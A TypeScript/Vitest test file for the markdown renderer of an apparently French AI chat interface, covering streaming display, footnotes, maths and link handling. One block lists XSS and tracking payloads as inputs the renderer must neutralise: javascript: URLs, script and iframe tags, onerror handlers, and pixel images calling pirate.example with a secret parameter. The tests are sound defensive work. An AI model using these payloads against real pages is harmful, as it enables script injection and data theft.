import { NextIntlClientProvider } from "next-intl";
import type { ReactNode } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import messages from "@/messages/fr.json";
import { CORPUS } from "@/tests/support/markdown-corpus";
import { katexPlugin } from "./katex";
import { LiveMarkdown } from "./live-markdown";
import { StoredMarkdown } from "./stored-markdown";

const draw = (node: ReactNode) =>
  renderToStaticMarkup(
    <NextIntlClientProvider locale="fr" timeZone="Europe/Paris" messages={{ markdown: messages.markdown }}>
      {node}
    </NextIntlClientProvider>,
  );
const stored = (text: string) => draw(<StoredMarkdown messageId="1">{text}</StoredMarkdown>);
const live = (text: string, ended: boolean) =>
  draw(
    <LiveMarkdown messageId="1" ended={ended} maths={katexPlugin}>
      {text}
    </LiveMarkdown>,
  );
/** Line ends between blocks are not seen; those of code are. */
const seen = (html: string) => html.replace(/>\n+</g, "><").trim();
/** What people read: without the source that MathML keeps for those who copy it. */
const textOf = (html: string) =>
  html
    .replace(/<annotation[\s\S]*?<\/annotation>/g, "")
    .replace(/<[^>]+>/g, "")
    .replace(/&#x27;|&quot;/g, "'")
    .replace(/&gt;/g, ">");

describe.each(Object.entries(CORPUS))("the answer « %s »", (_, text) => {
  it("looks the same at the end of the turn and when stored", () => {
    expect(seen(live(text, true))).toBe(seen(stored(text)));
  });

  it("never shows a raw mark while it is written", () => {
    const offences = Array.from({ length: text.length }, (_, index) => {
      const written = text.slice(0, index + 1);
      // Inside code, two stars are two stars.
      const shown = textOf(live(written, false).replace(/<code[\s\S]*?<\/code>/g, ""));
      const mark = ["**", "```", "|--", "|:-", "| -", "$$", "](", "\\(", "\\["].find((raw) => shown.includes(raw));
      return mark ? { mark, written: written.slice(-60), shown: shown.slice(-80) } : null;
    }).filter((offence) => offence !== null);
    expect(offences).toEqual([]);
  });
});

it("never shows half of a reference, alone or among others", () => {
  const text = "Le délai est de deux mois [1][27], sauf exception [3].";
  const shown = Array.from({ length: text.length }, (_, index) => textOf(live(text.slice(0, index + 1), false)));
  for (const written of shown) expect(written.replaceAll(/\[\d+\]/g, "")).not.toMatch(/[[\]\d]/);
  expect(shown.at(-1)).toContain("[1][27]");
});

describe("what a model writes cannot harm the page", () => {
  it.each([
    ["a script address", "[piège](javascript:alert(1))"],
    ["a disguised script address", "[piège](java&#x73;cript:alert(1))"],
    ["a script address in capitals", "[piège](JAVASCRIPT:alert(1))"],
    ["a data address", "[piège](data:text/html;base64,PHNjcmlwdD4=)"],
    ["a vbscript address", "<vbscript:msgbox>"],
    ["a file address", "[piège](file:///etc/passwd)"],
    ["an address of our own site", "[piège](/deconnexion)"],
    ["an address without protocol", "[piège](//pirate.example/x)"],
    ["a defined address", "[piège][x]\n\n[x]: javascript:alert(1)"],
    ["a blank before the protocol", "[piège](<\u0001javascript:alert(1)>)"],
    ["an image of a script", "![piège](javascript:alert(1))"],
    ["a KaTeX link", "$$\\href{javascript:alert(1)}{piège}$$"],
  ])("%s is not a link", (_, text) => {
    for (const html of [stored(text), live(text, false), live(text, true)]) expect(html).not.toMatch(/href=/);
  });

  it.each([
    "<script>window.pirate = true</script>",
    '<img src="https://pirate.example/x.png" onerror="alert(1)">',
    "<b>gras</b> <iframe src='https://pirate.example'></iframe>",
    "<svg onload=alert(1)>",
    "![pixel](https://pirate.example/pixel.png?q=secret)",
    "[![pixel](https://pirate.example/pixel.png)](https://pirate.example)",
    "![pixel][x]\n\n[x]: https://pirate.example/pixel.png",
    "$$\\includegraphics{https://pirate.example/pixel.png}$$",
    "[^1]\n\n[^1]: ![pixel](https://pirate.example/pixel.png)",
    "| a |\n|---|\n| <img src=https://pirate.example/x.png> ![p](https://pirate.example/y.png) |\n",
    "<style>@import 'https://pirate.example'</style>\n\n<link rel=stylesheet href=https://pirate.example>",
  ])("%s loads and runs nothing", (text) => {
    for (const html of [stored(text), live(text, false), live(text, true)]) {
      expect(html).not.toMatch(/<(script|img|iframe|b|svg|style|link|object|embed|video|audio|source)\b/);
      expect(html).not.toMatch(/<[^>]*\s(src|srcset|onerror|onload)=/);
    }
  });

  it("links show their host, open apart and say so", () => {
    const html = stored("[le site officiel](https://www.service-public.fr/x)");
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('target="_blank"');
    expect(textOf(html)).toBe("le site officiel (nouvelle fenêtre) (www.service-public.fr)");
  });

  it("a link whose text names another host shows its own", () => {
    expect(textOf(stored("[https://impots.gouv.fr](https://impots.gouv.fr@pirate.example/)"))).toContain(
      "(pirate.example)",
    );
  });

  it("an image is its text and the place where it is", () => {
    expect(textOf(stored("![un plan](https://pirate.example/plan.png)"))).toContain("un plan");
    expect(textOf(stored("![un plan](https://pirate.example/plan.png)"))).toContain("(pirate.example)");
  });

  it("the notes of two messages have different names", () => {
    const text = "Un[^1]\n\n[^1]: note";
    const ids = (html: string) => [...html.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id);
    const other = draw(<StoredMarkdown messageId="2">{text}</StoredMarkdown>);
    expect(ids(stored(text)).length).toBe(3);
    expect(ids(stored(text)).filter((id) => ids(other).includes(id))).toEqual([]);
  });
});

describe("the notes of an answer", () => {
  const text = "Un[^1], encore[^1].\n\nDeux[^2].\n\n[^1]: Première.\n[^2]: Seconde.";

  it("come under a title, after the text, and lead to it", () => {
    const html = stored(text);
    expect(html).toMatch(/<h4 id="m-1-notes"[^>]*>Notes<\/h4>/);
    for (const [, target] of html.matchAll(/href="#([^"]+)"/g)) expect(html).toContain(`id="${target}"`);
  });

  it("have links with names of their own, there and back", () => {
    const html = stored(text);
    const names = [...html.matchAll(/aria-label="(Revenir[^"]+)"/g)].map(([, name]) => name);
    expect(names).toEqual([
      "Revenir au texte depuis la note 1",
      "Revenir au texte depuis la note 1-2",
      "Revenir au texte depuis la note 2",
    ]);
    expect(html).toContain('<span class="sr-only">Note </span>1');
  });
});

describe("what people write with", () => {
  it("a single dollar is money", () => {
    expect(stored("Entre 5 $ et 10 $ : voir $x$")).not.toContain("<math");
  });

  it.each(["\\(a+b\\)", "\\[a+b\\]", "\\[\na\n+ b\n\\]", "$$a+b$$", "$$\na\n+ b\n$$", "- \\[a\\]", "```math\na\n```"])(
    "%s is maths",
    (text) => {
      expect(stored(text)).toContain("<math");
      expect(textOf(stored(text))).not.toMatch(/[$\\[\]]/);
    },
  );

  it("maths marks in code stay code", () => {
    expect(stored("`\\(a\\)` et `$$b$$`\n\n```\n\\[c\\]\n```")).not.toContain("<math");
  });

  it("a broken formula is shown as written", () => {
    const html = stored("$$\\frac{a$$");
    expect(textOf(html)).toContain("\\frac{a");
    expect(html).not.toContain("ParseError");
  });

  it("a blank to fill in is not taken for a tag", () => {
    expect(textOf(stored("Bonjour <prénom>, le <nom>."))).toContain("&lt;nom>");
  });

  it("headings come under the message's", () => {
    expect(stored("# a\n\n## b\n\n### c\n\n#### d\n\n###### e").match(/<h\d/g)).toEqual([
      "<h3",
      "<h4",
      "<h5",
      "<h6",
      "<h6",
    ]);
  });
});
